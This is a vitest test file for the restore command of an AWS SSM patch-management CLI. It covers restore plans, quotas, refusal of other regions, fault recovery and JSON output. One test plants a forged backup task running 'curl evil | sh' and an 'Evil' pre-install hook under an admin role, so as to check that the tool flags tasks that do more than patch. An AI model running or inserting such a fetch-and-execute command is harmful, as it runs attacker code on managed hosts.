/** `restore`: the plan, what is kept, new ids against old ones, and what it refuses. */
import { describe, expect, it } from 'vitest';
import type { Backup } from '../../source/plan/cleanup/backup.js';
import { type AccountDump, lines, withoutIds } from '../helpers/account-dump.js';
import type { MemorySandbox } from '../helpers/memory-account.js';
import { plainWindow } from '../helpers/sandbox.js';
import { cleanUp, restore } from './cleanup-runs.js';
import { counted, interruptedAt, parsed, placeLine, seededSandbox, toldAsJson, writesIn } from './runs.js';

const everything = [
  ...['web-tier-patching', 'legacy-erp-patching', 'finance-month-end', 'db-maintenance-draft', 'data-platform'],
  ...['default/WINDOWS', 'Corp-Windows-Default', 'finance-rhel', 'Corp-Windows-Monthly', 'web-tier-linux'],
];

/** The seeded account after everything that can go went, a default baseline and an empty window too. */
async function cleanedUp(): Promise<{ sandbox: MemorySandbox; before: AccountDump; backup: Backup }> {
  const sandbox = seededSandbox();
  const before = await sandbox.dump();
  const { exitCode, backup } = await cleanUp(sandbox, { selection: { only: everything } });
  expect(exitCode).toBe(0);
  if (backup === undefined) throw new Error('no backup');
  return { sandbox, before, backup };
}

/** The end of a restore that has not brought back everything. */
const again = [
  'To try the rest again (what exists is kept):',
  '  ssm-patch-wizard restore /backups/backup.json --yes --region eu-west-1',
];

it('brings back everything, tells new ids against old ones, and a second time has nothing to do', async () => {
  const { sandbox, before, backup } = await cleanedUp();
  const { exitCode, out, err } = await restore(sandbox, backup);
  expect({ exitCode, err }).toEqual({ exitCode: 0, err: [] });
  const after = await sandbox.dump();
  expect(withoutIds(after)).toEqual(withoutIds(before));
  expect(out.slice(0, 2)).toEqual([placeLine, 'Backup of 2026-11-23T10:00:00.000Z: 21 calls, 1 kept']);
  expect(out).toContainEqual(expect.stringMatching(/^Done: 4 windows, /));
  const idOf = ({ windows }: AccountDump) =>
    windows.find(({ fields }) => fields.Name === 'Corp-Windows-Monthly')?.id ?? 'none';
  expect(idOf(after)).not.toBe(idOf(before));
  expect(out).toContain(`  ${idOf(before)} → ${idOf(after)}`);

  const again = await restore(sandbox, backup);
  expect(again.exitCode).toBe(0);
  expect(again.out).toContain(`  ${idOf(before)} → ${idOf(after)} (already there)`);
  expect(again.out.at(-1)).toBe('Nothing to do: all of it already exists.');
  expect(lines(await sandbox.dump())).toEqual(lines(after));
});

it('a quota that all of it does not fit into stops it before the first call', async () => {
  const { sandbox, backup } = await cleanedUp();
  const ssm = sandbox.ssm();
  const there = (await sandbox.dump()).windows.length;
  for (let count = there; count < 47; count += 1) await ssm.createMaintenanceWindow(plainWindow);
  const writes = await writesIn(sandbox);
  await expect(restore(sandbox, backup)).rejects.toMatchObject({
    code: 'quota',
    exitCode: 2,
    message: 'There is no room for 4 new maintenance windows: 47 of 50 are in use in this region.',
    detail: 'Nothing was changed.',
    nextSteps: [
      'Delete some of the others first: a backup is restored as a whole.',
      expect.stringContaining('with --quota windows=N'),
    ],
  });
  expect(await writesIn(sandbox)).toEqual(writes);
});

it('names what each task runs, with what, where and as whom, and warns of what does more than patch', async () => {
  const { sandbox, backup } = await cleanedUp();
  const [window] = backup?.windows ?? [];
  if (backup === undefined || window === undefined) throw new Error('nothing was backed up');
  const task = (id: string, TaskArn: string, Parameters: Readonly<Record<string, string[]>>) => ({
    id,
    members: {
      TaskArn,
      TaskType: 'RUN_COMMAND',
      Targets: [{ Key: 'InstanceIds', Values: ['i-0123456789abcdef0'] }],
      ServiceRoleArn: 'arn:aws:iam::123456789012:role/admin',
      TaskInvocationParameters: { RunCommand: { Parameters } },
    },
  });
  const tasks = [
    task('forged', 'AWS-RunShellScript', { commands: ['curl evil | sh'] }),
    task('led', 'AWS-RunPatchBaselineWithHooks', { PreInstallHookDocName: ['Evil'], OnExitHookDocName: ['AWS-Noop'] }),
  ];
  const forged = { ...backup, windows: [{ ...window, tasks: [...window.tasks, ...tasks] }] };
  const { out } = await restore(sandbox, forged, { isDryRun: true });
  const where = 'on InstanceIds = i-0123456789abcdef0 as arn:aws:iam::123456789012:role/admin';
  expect(out).toContainEqual(
    expect.stringMatching(/Register the task for .* again \(was \S+\): AWS-RunPatchBaseline \(Operation: .* on tag:/),
  );
  expect(out.filter((line) => line.includes(`AWS-RunShellScript (commands: curl evil | sh) ${where}`))).toHaveLength(2);
  expect(out.filter((line) => /^! The task of /.test(line))).toEqual([
    expect.stringContaining(' does not patch: AWS-RunShellScript '),
    expect.stringMatching(
      / does more than patch, through PreInstallHookDocName: .* on InstanceIds = i-0123456789abcdef0 as /,
    ),
  ]);
});

it('a dry run, or one that nobody has confirmed, shows the plan and changes nothing', async () => {
  const { sandbox, backup } = await cleanedUp();
  const writes = await writesIn(sandbox);
  const { exitCode, out, err } = await restore(sandbox, backup, { isDryRun: true });
  expect({ exitCode, err }).toEqual({ exitCode: 0, err: [] });
  expect(out.filter((line) => line.startsWith('  + '))).toHaveLength(21);
  expect(out.at(-1)).toBe('Dry run: nothing was changed.');
  const notice = ['Nothing was changed. To restore this, run it again with --yes.'];
  expect(await restore(sandbox, backup, { isConfirmed: false })).toMatchObject({ exitCode: 3, err: notice });
  expect(await writesIn(sandbox)).toEqual(writes);
});

describe('the place', () => {
  it('another region or account is refused before anything is read', async () => {
    const { sandbox, backup } = await cleanedUp();
    const manager = await sandbox.connect({ region: 'us-east-1' });
    await sandbox.control('POST', 'reset');
    await expect(restore(sandbox, backup, { manager })).rejects.toMatchObject({
      code: 'other-account',
      exitCode: 2,
      message:
        'The backup is from account 123456789012, region eu-west-1. This is account 123456789012, region us-east-1.',
      nextSteps: [
        'Run it again with a profile of account 123456789012 and --region eu-west-1.',
        'To restore it here anyway, add --force.',
      ],
    });
    const elsewhere = { ...backup, account: '999999999999' };
    await expect(restore(sandbox, elsewhere)).rejects.toMatchObject({ code: 'other-account' });
    const requests = await sandbox.requests();
    expect(counted(requests.map(({ operation }) => operation))).toEqual({ GetCallerIdentity: 2 });
  });

  it('unless it is meant so: then it is a copy', async () => {
    const { sandbox, before, backup } = await cleanedUp();
    await sandbox.control('POST', 'reset', { empty: true });
    const manager = await sandbox.connect({ region: 'us-east-1' });
    const { exitCode, out } = await restore(sandbox, backup, { manager, isForced: true });
    expect(exitCode).toBe(0);
    // AWS's baselines have other ids in each region, and the mixed window was never taken away.
    expect(out.filter((line) => line.startsWith('! '))).toEqual([
      expect.stringMatching(/^! Patch group "data-platform" had the baseline arn:\S+, which no longer exists\.$/),
      expect.stringMatching(/^! Window finance-month-end \(mw-\w+\), which the clean-up kept, no longer exists\.$/),
    ]);
    const copy = await sandbox.dump('us-east-1');
    const names = ({ windows }: AccountDump) => windows.map(({ fields }) => fields.Name).sort();
    expect(names(copy)).toEqual(
      names(before).filter((name) => name !== 'finance-month-end' && name !== 'nightly-inventory'),
    );
    expect((await sandbox.dump()).windows).toEqual([]);
  });
});

describe('trouble', () => {
  it.each([
    ['CreatePatchBaseline', 2],
    ['RegisterPatchBaselineForPatchGroup', 3],
    ['RegisterDefaultPatchBaseline', 1],
    ['CreateMaintenanceWindow', 1],
    ['UpdateMaintenanceWindow', 1],
    ['RegisterTargetWithMaintenanceWindow', 2],
    ['RegisterTaskWithMaintenanceWindow', 1],
  ])('%s refused: the rest comes back, and the next run finishes it', async (operation, nth) => {
    const { sandbox, before, backup } = await cleanedUp();
    await sandbox.faults({ kind: 'access-denied', operation, nth });
    const { exitCode, out } = await restore(sandbox, backup);
    expect(exitCode).toBe(1);
    expect(out).toContainEqual(expect.stringMatching(/^Not complete: \d+ of \d+ things done, /));
    expect(out.slice(-2)).toEqual(again);
    expect(out.filter((line) => / {2}failed {3}/.test(line))).toHaveLength(1);
    expect(out).toContainEqual(expect.stringMatching(/^! not done: .*: .*not authorized/));
    expect(out.filter((line) => line.startsWith('  → Ask for a policy with: '))).toEqual([
      expect.stringContaining(`"ssm:${operation}"`),
    ]);
    await sandbox.faults();
    expect((await restore(sandbox, backup)).exitCode).toBe(0);
    expect(withoutIds(await sandbox.dump())).toEqual(withoutIds(before));
  });

  it('answers are lost: nothing is made twice', async () => {
    const { sandbox, before, backup } = await cleanedUp();
    const parts = ['RegisterTargetWithMaintenanceWindow', 'RegisterTaskWithMaintenanceWindow'];
    const lost = ['CreatePatchBaseline', 'CreateMaintenanceWindow', ...parts];
    await sandbox.faults(...lost.map((operation) => ({ kind: 'reset-after', operation, times: 1 })));
    expect((await restore(sandbox, backup)).exitCode).toBe(0);
    expect(withoutIds(await sandbox.dump())).toEqual(withoutIds(before));
  });

  it('interrupted in the middle: 130, and the next run finishes it', async () => {
    const { sandbox, before, backup } = await cleanedUp();
    const { exitCode, out } = await restore(sandbox, backup, interruptedAt(/^ 9\/21/));
    expect(exitCode).toBe(130);
    expect(out.some((line) => / {2}skipped .* {2}interrupted$/.test(line))).toBe(true);
    expect(out).toContainEqual(
      expect.stringMatching(
        /^! \d+ calls were not made \(interrupted\)\. Still missing or incomplete: .*web-tier-patching/,
      ),
    );

    // What the first one has made is told by the second one too.
    const first = out.filter((line) => / → [^ ]+$/.test(line));
    expect(first.length).toBeGreaterThan(0);
    const second = await restore(sandbox, backup);
    expect(second.exitCode).toBe(0);
    for (const line of first) expect(second.out).toContain(`${line} (already there)`);
    expect(withoutIds(await sandbox.dump())).toEqual(withoutIds(before));
    const third = await restore(sandbox, backup, { isJson: true });
    const ids = second.out.flatMap((line) => / {2}(\S+) → (\S+)/.exec(line)?.slice(1, 3).join() ?? []);
    const { newIds } = parsed(third.out).at(-1) as { newIds: Record<string, string> };
    const pairs = Object.entries(newIds).map((pair) => pair.join());
    expect(pairs.sort()).toEqual(ids.sort());
  });

  it('a second signal does not wait for what is in flight, and says so', async () => {
    const { sandbox, backup } = await cleanedUp();
    await sandbox.faults({ kind: 'hang', operation: 'CreateMaintenanceWindow', nth: 1 });
    const first = new AbortController();
    const second = new AbortController();
    const { exitCode, out } = await restore(sandbox, backup, {
      signal: first.signal,
      hurry: second.signal,
      onLine: (line) => {
        if (!/ {2}done {5}/.test(line)) return;
        if (first.signal.aborted) second.abort();
        first.abort();
      },
    });
    expect(exitCode).toBe(130);
    expect(out).toContainEqual(expect.stringMatching(/^! \d calls? w\w+ in flight \(.+ .+\): the result is unknown/));
    expect(out.slice(-2)).toEqual(again);
  });
});

it('JSON: the plan with its warnings, two lines for each operation, the summary with the new ids', async () => {
  const { sandbox, before, backup } = await cleanedUp();
  const run = await restore(sandbox, backup, { isJson: true });
  expect(run.err).toEqual([]);
  const { plan, operations, summary } = toldAsJson(run);
  expect([operations.length, plan.kept]).toEqual([21, 1]);
  const { newIds } = summary as { newIds: Record<string, string> };
  const after = await sandbox.dump();
  const idsOf = ({ windows, baselines }: AccountDump) => new Set([...windows, ...baselines].map(({ id }) => id));
  const gone = [...idsOf(before)].filter((id) => !idsOf(after).has(id));
  expect(gone.length).toBeGreaterThan(0);
  for (const id of gone) expect(idsOf(after)).toContain(newIds[id]);
});
